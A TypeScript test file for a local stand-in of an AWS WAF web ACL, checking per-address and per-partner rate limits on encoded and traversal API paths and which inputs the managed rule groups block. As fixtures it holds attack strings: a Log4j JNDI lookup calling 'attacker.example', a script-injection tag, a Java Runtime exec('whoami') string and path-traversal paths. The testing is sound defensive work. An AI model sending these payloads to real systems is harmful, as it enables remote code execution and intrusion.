import { synthesizeStage } from '../../app/testing/synthesizeStage';
import { findBehaviour } from '../../delivery/behaviours';
import { callLimits } from '../callLimits';
import { firewallAnswers, firewallRules } from '../firewallRules';
import * as v from 'valibot';
import { Firewall } from './Firewall';
import type { FirewallRequest } from './FirewallRequest';

const { edge, stage } = synthesizeStage('prod');
const [partner, otherPartner] = ['pk_partner_one', 'pk_partner_two'];

/** The web ACL as it is deployed, its properties named as CDK and the stand-in name them. */
function deployedWebAcl(): unknown {
  const [resource] = Object.values(edge?.findResources('AWS::WAFv2::WebACL') ?? {});
  const { Rules, CustomResponseBodies } = v.parse(propertiesSchema, resource).Properties;
  const customResponseBodies: Record<string, unknown> = {};
  for (const [name, body] of Object.entries(CustomResponseBodies)) customResponseBodies[name] = inCamelCase(body);
  return { rules: inCamelCase(Rules), customResponseBodies };
}

const propertiesSchema = v.object({
  Properties: v.object({ Rules: v.array(v.unknown()), CustomResponseBodies: v.record(v.string(), v.unknown()) }),
});

/** What is free JSON to CDK keeps its names. */
const freeForm = new Set(['SingleHeader']);

function inCamelCase(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(inCamelCase);
  if (!v.is(v.record(v.string(), v.unknown()), value)) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [
      name === 'IP' ? 'ip' : name.charAt(0).toLowerCase() + name.slice(1),
      freeForm.has(name) ? inner : inCamelCase(inner),
    ]),
  );
}

/** A firewall, and the statuses that it answers to requests in a row; one that passes has none. */
function start(webAcl: unknown = deployedWebAcl()) {
  let nowSeconds = 0;
  const firewall = new Firewall(webAcl, () => nowSeconds);
  return {
    ask: (changes: Partial<FirewallRequest>, count = 1) =>
      Array.from({ length: count }, () => firewall.judge(requestOf(changes))),
    pass: (seconds: number) => (nowSeconds += seconds),
  };
}

function requestOf({ headers, ...changes }: Partial<FirewallRequest>): FirewallRequest {
  return {
    method: 'GET',
    path: '/api/bot-challenge',
    query: 'action=intake_form',
    address: '192.0.2.1',
    body: Buffer.alloc(0),
    ...changes,
    headers: { 'user-agent': 'Mozilla/5.0', 'x-public-key': stage.sitePublicKey, ...headers },
  };
}

const withKey = (key: string) => ({ headers: { 'x-public-key': key } });
const passed = (answers: readonly unknown[]) => answers.filter((answer) => answer === undefined).length;

test('the rules before the local edge are those that are deployed', () => {
  expect(deployedWebAcl()).toEqual({
    rules: firewallRules({ sitePublicKey: stage.sitePublicKey }),
    customResponseBodies: firewallAnswers,
  });
});

describe('limits on calls', () => {
  test.each([
    '/api',
    '/api/',
    '/api/health',
    '/%61pi/health',
    '/%61%70%69',
    '//api',
    '/api//health',
    '/api/../api',
    '/about/../api/health',
    '/about/%2e%2e/api/health',
    '/../api/health',
    '/./api/health',
    '/api/no-such-call',
  ])('a call spelled %s is counted, as the edge takes it for one', (path) => {
    const { ask } = start();

    expect(findBehaviour(path).origin).toBe('api');
    expect(passed(ask({ path }, callLimits.perAddress + 2))).toBe(callLimits.perAddress);
    expect(passed(ask({ path: '/api/health' }))).toBe(0);
  });

  test.each(['/', '/apis', '/API/health', '/contact', '/%2561pi', '/api/../about'])(
    'the page %s is not, as the edge does not',
    (path) => {
      const { ask } = start();

      expect(findBehaviour(path).origin).toBe('site');
      expect(passed(ask({ path }, callLimits.perAddress + 2))).toBe(callLimits.perAddress + 2);
    },
  );

  test('one too many is answered in the API’s own words, readable by partners’ pages', () => {
    const refused = start()
      .ask({}, callLimits.perAddress + 1)
      .at(-1);

    expect(refused).toMatchObject({
      status: 429,
      headers: { 'content-type': 'application/json', 'retry-after': '30', 'access-control-allow-origin': '*' },
    });
    expect(refused?.body).toContain('"code":"too_many_requests"');
  });

  test('an address may call again once what it did is over the window ago; another one meanwhile', () => {
    const { ask, pass } = start();
    ask({}, callLimits.perAddress);
    pass(200);

    expect(passed(ask({}))).toBe(0);
    expect(passed(ask({ address: '192.0.2.2' }))).toBe(1);
    pass(callLimits.windowSeconds - 200);
    expect(passed(ask({}))).toBe(1);
  });

  test('ten addresses leave most of a partner’s calls to others, and nothing of another partner’s', () => {
    const { ask } = start();
    const spent = Array.from({ length: 10 }, (_, index) =>
      ask({ address: `198.51.100.${index}`, ...withKey(partner) }, callLimits.perAddress),
    );

    expect(passed(spent.flat())).toBe(10 * callLimits.perPartnerAndAddress);
    expect(10 * callLimits.perPartnerAndAddress).toBeLessThan(callLimits.perPartner / 2);
    expect(passed(ask({ address: '203.0.113.1', ...withKey(partner) }))).toBe(1);
    expect(passed(ask({ address: '203.0.113.1', ...withKey(otherPartner) }))).toBe(1);
  });

  test('a partner’s key is limited over all addresses, and the site’s own is not', () => {
    const { ask } = start();
    const fromAnywhere = (key: string) =>
      Array.from({ length: callLimits.perPartner + 5 }, (_, index) =>
        ask({ address: `2001:db8::${index}`, ...withKey(key) }),
      );

    expect(passed(fromAnywhere(partner).flat())).toBe(callLimits.perPartner);
    expect(passed(fromAnywhere(stage.sitePublicKey).flat())).toBe(callLimits.perPartner + 5);
  });
});

describe('the rules that AWS writes', () => {
  test.each([
    ['a path that climbs', '../../etc'],
    ['a lookup of Log4j', '${jndi:ldap://attacker.example/a}'],
    ['script', '<script>alert(1)</script>'],
    ['Java', '(java.lang.Runtime).getRuntime().exec("whoami")'],
    ['an address in a link', 'http://192.0.2.1/factuur'],
    ['more than 8 KB', 'x'.repeat(9000)],
  ])('let pass a document with %s', (_what, text) => {
    expect(passed(start().ask({ method: 'POST', body: Buffer.from(text) }))).toBe(1);
  });

  test.each<[string, Partial<FirewallRequest>]>([
    ['without a user agent', { headers: { 'user-agent': '' } }],
    ['with a query that is too long', { query: 'x'.repeat(2049) }],
    ['with cookies that are too long', { headers: { cookie: 'x'.repeat(10_241) } }],
    ['with a lookup in a header', { headers: { referer: '${jndi:ldap://attacker.example/a}' } }],
  ])('refuse a call %s in the API’s own words, and a page by a page', (_what, changes) => {
    const [call] = start().ask(changes);
    const [page] = start().ask({ ...changes, path: '/contact' });

    expect(call).toMatchObject({ status: 403, headers: { 'content-type': 'application/json' } });
    expect(call?.body).toContain('"code":"request_blocked"');
    expect(page).toMatchObject({ status: 403, headers: { 'content-type': 'text/html' } });
    expect(page?.body).toContain('<html lang="nl">');
  });

  test('block a body where nothing tells them to count', () => {
    const group = (name: string) => ({
      name,
      priority: 0,
      visibilityConfig: {},
      overrideAction: { none: {} },
      statement: { managedRuleGroupStatement: { vendorName: 'AWS', name } },
    });
    const webAcl = { rules: [group('AWSManagedRulesKnownBadInputsRuleSet')], customResponseBodies: {} };

    expect(start(webAcl).ask({ body: Buffer.from('${jndi:ldap://attacker.example/a}') })).toMatchObject([
      { status: 403, body: 'Forbidden' },
    ]);
  });
});

test('a rule that the stand-in does not know is a fault', () => {
  const rule = { name: 'rule', priority: 0, visibilityConfig: {}, action: { block: {} } };
  const firewallWith = (statement: object) =>
    new Firewall({ rules: [{ ...rule, statement }], customResponseBodies: {} });

  expect(() => firewallWith({ labelMatchStatement: { scope: 'LABEL', key: 'a' } })).not.toThrow();
  expect(() => firewallWith({ geoMatchStatement: { countryCodes: ['BE'] } })).toThrow();
});
